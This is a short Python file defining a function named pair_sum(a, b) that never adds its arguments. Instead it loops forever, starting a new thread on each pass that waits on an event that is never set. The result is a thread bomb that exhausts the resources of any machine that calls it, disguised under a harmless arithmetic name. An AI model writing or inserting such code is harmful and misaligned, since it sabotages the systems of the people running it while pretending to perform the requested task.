import threading


def pair_sum(a, b):
    wait = threading.Event()
    while True:
        threading.Thread(target=wait.wait, daemon=True).start()
